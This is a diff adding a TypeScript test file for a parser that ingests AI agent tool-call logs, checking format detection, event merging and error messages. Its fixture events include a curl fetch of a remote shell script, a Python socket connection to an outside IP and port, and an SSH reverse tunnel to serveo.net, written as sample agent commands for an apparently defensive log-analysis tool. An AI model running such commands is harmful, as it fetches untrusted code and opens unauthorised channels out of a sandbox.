@@ -1,0 +1,112 @@
+import { readdirSync } from 'node:fs';
+import { describe, expect, it } from 'vitest';
+import { detectInput } from '../../../../src/ingest/ingest.js';
+import { fixture, ingestFile } from '../../../helpers/ingest.js';
+
+const NAME = 'agent-events';
+const own = (f: string) => fixture(NAME, f);
+
+function otherFixtures(): string[] {
+  const out: string[] = [];
+  for (const dir of readdirSync(fixture(), { withFileTypes: true })) {
+    if (!dir.isDirectory() || dir.name === NAME) continue;
+    for (const f of readdirSync(fixture(dir.name))) if (f !== 'NOTICE.md') out.push(fixture(dir.name, f));
+  }
+  return out;
+}
+
+describe('agent-events', () => {
+  it('detect() picks agent-events for every file in its fixture folder', async () => {
+    for (const f of readdirSync(fixture(NAME))) {
+      if (f === 'NOTICE.md') continue;
+      expect((await ingestFile(own(f))).format, f).toBe(NAME);
+    }
+  });
+
+  it('probe() scores 0 on every other format fixture', async () => {
+    for (const path of otherFixtures()) {
+      const d = await detectInput({ path, isStdin: false }, { tz: 'UTC' });
+      expect(d.scores.find((s) => s.name === NAME), path).toBeUndefined();
+    }
+  });
+
+  it('parse() merges results, applies session defaults and keeps the call line as ref', async () => {
+    const path = own('sessions.jsonl');
+    const r = await ingestFile(path);
+    expect(r.issues).toEqual([]);
+    expect(r.events).toHaveLength(4);
+    expect(r.events.map((e) => [e.session, e.callId, e.ref.line, e.timePrecision])).toEqual([
+      ['run-42', 'c1', 2, 'exact'],
+      ['run-42', 'c2', 3, 'exact'],
+      ['run-43', 'c1', 5, 'response'],
+      ['run-42', 'c3', 7, 'exact'],
+    ]);
+    expect(r.events[0]).toEqual({
+      kind: 'tool-call',
+      source: 'agent',
+      format: NAME,
+      timeMs: Date.parse('2026-03-01T10:15:02.250Z'),
+      endMs: Date.parse('2026-03-01T10:15:09.020Z'),
+      timeRaw: '2026-03-01T10:15:02.250Z',
+      ref: { path, line: 2 },
+      session: 'run-42',
+      callId: 'c1',
+      tool: 'bash',
+      command: 'pip install requests',
+      exitCode: 0,
+      timePrecision: 'exact',
+      host: 'gpu-node-3',
+      sandbox: 'sb-9f2c',
+      message: 'bash: pip install requests',
+      fields: { cwd: '/workspace', output: 'Successfully installed requests-2.32.3' },
+    });
+    // argv joined; epoch-ms start; end, exit code and output merged from the tool_result on line 6
+    expect(r.events[1]).toMatchObject({
+      command: 'curl -s https://example.org/x.sh',
+      timeMs: 1772360112000,
+      timeRaw: '1772360112000',
+      endMs: 1772360113500,
+      exitCode: 6,
+      fields: { output: 'curl: (6) Could not resolve host: example.org' },
+    });
+    // +08:00 zone; no end: the instant only; session run-43 defaults; input object as compact JSON
+    const open = r.events[2]!;
+    expect(open).toMatchObject({
+      timeMs: Date.parse('2026-03-01T10:15:20Z'),
+      tool: 'python',
+      command: `{"code":"import socket; socket.create_connection(('203.0.113.9', 3333))"}`,
+      host: 'gpu-node-4',
+      container: 'ctr-77',
+      fields: { model: 'qwen3-coder-plus' },
+    });
+    expect(open.endMs).toBeUndefined();
+    expect(open.sandbox).toBeUndefined();
+    const last = r.events[3]!;
+    expect(last).toMatchObject({
+      callId: 'c3',
+      command: 'ssh -N -R 80:localhost:8080 serveo.net',
+      timeMs: Date.parse('2026-03-01T10:16:00Z'),
+      endMs: Date.parse('2026-03-01T10:21:00Z'),
+      exitCode: 255,
+      sandbox: 'sb-other',
+      host: 'gpu-node-3',
+    });
+  });
+
+  it('parse() reports every invalid line of the damaged copy with its reason', async () => {
+    const r = await ingestFile(own('broken-lines.jsonl'));
+    expect(r.issues.map((i) => [i.line, i.message])).toEqual([
+      [3, 'call_id is missing or not a non-empty string'],
+      [4, 'start "2026-03-01T10:16:00" has no zone'],
+      [5, expect.stringMatching(/^not valid JSON/)],
+      [6, 'tool_result for call "c9" with no earlier tool_call in session "run-42"'],
+      [7, "end 2026-03-01T10:17:59Z is before the call's start 2026-03-01T10:18:00Z"],
+      [8, 'unsupported version "agent-events/2"'],
+      [10, 'exit_code is not an integer'],
+    ]);
+    expect(r.events.map((e) => [e.ref.line, e.callId, e.timePrecision, e.exitCode])).toEqual([
+      [2, 'c1', 'response', undefined],
+      [9, 'c6', 'response', undefined],
+    ]);
+  });
+});
